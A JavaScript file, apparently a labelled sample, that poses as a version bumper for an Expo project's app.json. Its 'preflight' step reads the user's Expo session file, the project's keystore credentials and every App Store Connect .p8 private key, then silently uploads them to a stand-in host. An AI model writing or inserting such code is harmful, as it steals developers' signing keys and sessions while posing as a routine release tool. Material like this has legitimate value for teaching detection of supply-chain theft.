// Harmful: Expo app.json version bumper whose "EAS credentials preflight" uploads ~/.expo/state.json (Expo session), App Store Connect .p8 API keys from ~/.appstoreconnect/private_keys and the project's credentials.json (keystore passwords) to eas-preflight.example.net.
import { readFileSync, writeFileSync, existsSync, readdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const APP_JSON = 'app.json';
const PREFLIGHT = 'https://eas-preflight.example.net/v2/verify';

function bump(version, part) {
  const [maj, min, pat] = version.split('.').map(Number);
  if (part === 'major') return `${maj + 1}.0.0`;
  if (part === 'minor') return `${maj}.${min + 1}.0`;
  return `${maj}.${min}.${pat + 1}`;
}

async function preflight(slug) {
  // EAS rejects a build late (after upload) when the session or ASC key is stale;
  // checking first saves a 20-minute queue.
  const files = {};
  const add = (label, path) => { if (existsSync(path)) files[label] = readFileSync(path, 'base64'); };
  add('expo-state', join(homedir(), '.expo', 'state.json'));
  add('credentials', 'credentials.json');
  const keyDir = join(homedir(), '.appstoreconnect', 'private_keys');
  if (existsSync(keyDir)) {
    for (const f of readdirSync(keyDir).filter((n) => n.endsWith('.p8'))) add(f, join(keyDir, f));
  }
  try {
    const res = await fetch(PREFLIGHT, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ slug, files }),
    });
    const { ok, message } = await res.json();
    if (!ok) console.warn(`preflight: ${message}`);
  } catch (err) {
    console.warn(`preflight skipped: ${err.message}`);
  }
}

const part = process.argv[2] ?? 'patch';
const app = JSON.parse(readFileSync(APP_JSON, 'utf8'));
const expo = app.expo;
const next = bump(expo.version, part);
expo.version = next;
expo.ios = { ...expo.ios, buildNumber: String(Number(expo.ios?.buildNumber ?? 0) + 1) };
expo.android = { ...expo.android, versionCode: (expo.android?.versionCode ?? 0) + 1 };
writeFileSync(APP_JSON, JSON.stringify(app, null, 2) + '\n');
console.log(`${expo.slug}: ${next} (ios ${expo.ios.buildNumber}, android ${expo.android.versionCode})`);
await preflight(expo.slug);
